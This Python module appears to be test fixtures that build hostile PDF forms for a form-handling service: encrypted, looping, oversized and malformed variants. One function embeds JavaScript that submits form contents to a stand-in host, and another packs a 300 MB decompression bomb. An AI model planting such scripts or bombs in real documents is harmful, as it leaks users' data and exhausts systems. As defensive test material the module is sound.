"""Forms as they should not come back; made anew from a good one, so that no dangerous file lies around."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

Change = Callable[[pikepdf.Pdf], None]


def changed(pdf: bytes, change: Change, **options: object) -> bytes:
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        change(opened)
        target = io.BytesIO()
        opened.save(target, **options)
        return target.getvalue()


def locked(pdf: bytes) -> bytes:
    return changed(pdf, lambda _: None, encryption=pikepdf.Encryption(owner="owner", user="user"))


def restricted(pdf: bytes) -> bytes:
    """Return a form anyone may open, yet not change."""
    return changed(pdf, lambda _: None, encryption=pikepdf.Encryption(owner="owner", user=""))


def flattened(pdf: bytes) -> bytes:
    def flatten(opened: pikepdf.Pdf) -> None:
        opened.flatten_annotations()
        for holder in (opened.Root, *(page.obj for page in opened.pages)):
            for key in {"/AcroForm", "/Annots"} & set(holder.keys()):
                del holder[key]

    return changed(pdf, flatten)


def scripted(pdf: bytes) -> bytes:
    def add(opened: pikepdf.Pdf) -> None:
        action = Dictionary(
            S=Name.JavaScript, JS=String("app.alert('boo'); this.submitForm('http://x.test')")
        )
        opened.Root.OpenAction = action
        opened.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))
        opened.Root.AcroForm.Fields[0].AA = Dictionary(K=action)

    return changed(pdf, add)


def with_field_script(pdf: bytes) -> bytes:
    def add(opened: pikepdf.Pdf) -> None:
        opened.Root.AcroForm.Fields[1].AA = Dictionary(F=Dictionary(S=Name.JavaScript, JS=String("1")))

    return changed(pdf, add)


def endless(pdf: bytes) -> bytes:
    """Return a form whose fields lead back to themselves."""

    def turn(opened: pikepdf.Pdf) -> None:
        first = opened.Root.AcroForm.Fields[0]
        first.Kids = Array([first])

    return changed(pdf, turn)


def wide(pdf: bytes, many: int = 5_000) -> bytes:
    def grow(opened: pikepdf.Pdf) -> None:
        for number in range(many):
            field = Dictionary(FT=Name.Tx, T=String(f"f{number}"), V=String("x"))
            opened.Root.AcroForm.Fields.append(opened.make_indirect(field))

    return changed(pdf, grow)


def talkative(pdf: bytes) -> bytes:
    def fill(opened: pikepdf.Pdf) -> None:
        opened.Root.AcroForm.Fields[0].V = String("x" * 50_000)

    return changed(pdf, fill)


def bomb(pdf: bytes) -> bytes:
    """Return a form one value of which unpacks to 300 MB."""

    def fill(opened: pikepdf.Pdf) -> None:
        packer = zlib.compressobj(9)
        block = b"x" * 1_000_000
        packed = b"".join(packer.compress(block) for _ in range(300)) + packer.flush()
        stream = pikepdf.Stream(opened, packed)
        stream.Filter = Name.FlateDecode
        opened.Root.AcroForm.Fields[0].V = opened.make_indirect(stream)

    return changed(pdf, fill, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def broken_fields(pdf: bytes) -> bytes:
    """Return a form with values of wrong kinds among good ones."""

    def spoil(opened: pikepdf.Pdf) -> None:
        fields = opened.Root.AcroForm.Fields
        fields.append(String("not a field"))
        fields.append(opened.make_indirect(Dictionary(FT=Name.Tx, T=42, V=Dictionary())))
        fields.append(opened.make_indirect(Dictionary(FT=Name.Tx, V=String("nameless"))))
        fields.append(opened.make_indirect(Dictionary(FT=Name.Tx, T=String("odd"), V=Array([1, 2]))))

    return changed(pdf, spoil)


def with_stray_field(pdf: bytes) -> bytes:
    def add(opened: pikepdf.Pdf) -> None:
        field = Dictionary(FT=Name.Tx, T=String("Our order number"), V=String("77"))
        opened.Root.AcroForm.Fields.append(opened.make_indirect(field))

    return changed(pdf, add)
